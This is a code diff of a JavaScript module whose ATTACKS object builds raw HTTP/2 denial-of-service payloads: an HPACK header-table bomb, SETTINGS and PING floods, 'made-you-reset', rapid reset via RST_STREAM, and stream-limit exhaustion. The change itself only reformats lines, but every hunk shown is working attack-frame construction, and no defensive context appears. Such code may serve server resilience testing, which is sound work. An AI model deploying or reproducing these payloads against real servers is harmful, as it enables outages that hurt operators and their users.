@@ -50,19 +50,32 @@ const ATTACKS = {
     const id = ids();
     const name = Buffer.from('x-bomb');
     // A literal with incremental indexing and a new name (RFC 7541 §6.2.1), value of 4,000 = 127 + 33 + 30 × 128.
-    const insert = Buffer.concat([Buffer.from([0x40, name.length]), name, Buffer.from([0x7f, 0x80 | 33, 30]), Buffer.alloc(4_000, 0x61)]);
+    const insert = Buffer.concat([
+      Buffer.from([0x40, name.length]),
+      name,
+      Buffer.from([0x7f, 0x80 | 33, 30]),
+      Buffer.alloc(4_000, 0x61),
+    ]);
     const refs = Buffer.alloc(8_000, 0xbe); // index 62: the 4 KB entry
     return {
       opening: frame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, id(), Buffer.concat([GET, insert])),
       chunk: () => {
         const stream = id();
-        return Buffer.concat([frame(FrameType.HEADERS, Flag.END_STREAM, stream, Buffer.concat([GET, refs])), frame(FrameType.CONTINUATION, Flag.END_HEADERS, stream, refs)]);
+        return Buffer.concat([
+          frame(FrameType.HEADERS, Flag.END_STREAM, stream, Buffer.concat([GET, refs])),
+          frame(FrameType.CONTINUATION, Flag.END_HEADERS, stream, refs),
+        ]);
       },
     };
   },
   settings: () => {
     const id = ids();
-    const big = frame(FrameType.SETTINGS, 0, 0, repeat(2_730, (i) => Buffer.from([0, 4, 0, 0, 0x10, i & 0xff])));
+    const big = frame(
+      FrameType.SETTINGS,
+      0,
+      0,
+      repeat(2_730, (i) => Buffer.from([0, 4, 0, 0, 0x10, i & 0xff])),
+    );
     return { opening: hold128(id), chunk: () => big };
   },
   'made-you-reset': () => {
@@ -71,7 +84,10 @@ const ATTACKS = {
       chunk: () =>
         repeat(64, () => {
           const stream = id();
-          return Buffer.concat([frame(FrameType.HEADERS, Flag.END_HEADERS, stream, NEXT_IDS), frame(FrameType.WINDOW_UPDATE, 0, stream, word(0))]);
+          return Buffer.concat([
+            frame(FrameType.HEADERS, Flag.END_HEADERS, stream, NEXT_IDS),
+            frame(FrameType.WINDOW_UPDATE, 0, stream, word(0)),
+          ]);
         }),
     };
   },
@@ -81,13 +97,19 @@ const ATTACKS = {
       chunk: () =>
         repeat(64, () => {
           const stream = id();
-          return Buffer.concat([frame(FrameType.HEADERS, Flag.END_HEADERS, stream, NEXT_IDS), frame(FrameType.RST_STREAM, 0, stream, word(ErrorCode.CANCEL))]);
+          return Buffer.concat([
+            frame(FrameType.HEADERS, Flag.END_HEADERS, stream, NEXT_IDS),
+            frame(FrameType.RST_STREAM, 0, stream, word(ErrorCode.CANCEL)),
+          ]);
         }),
     };
   },
   'stream-limit': () => {
     const id = ids();
-    return { opening: hold128(id), chunk: () => repeat(64, () => frame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, id(), GET)) };
+    return {
+      opening: hold128(id),
+      chunk: () => repeat(64, () => frame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, id(), GET)),
+    };
   },
   ping: () => {
     const flood = repeat(2_048, () => frame(FrameType.PING, 0, 0, Buffer.alloc(8)));
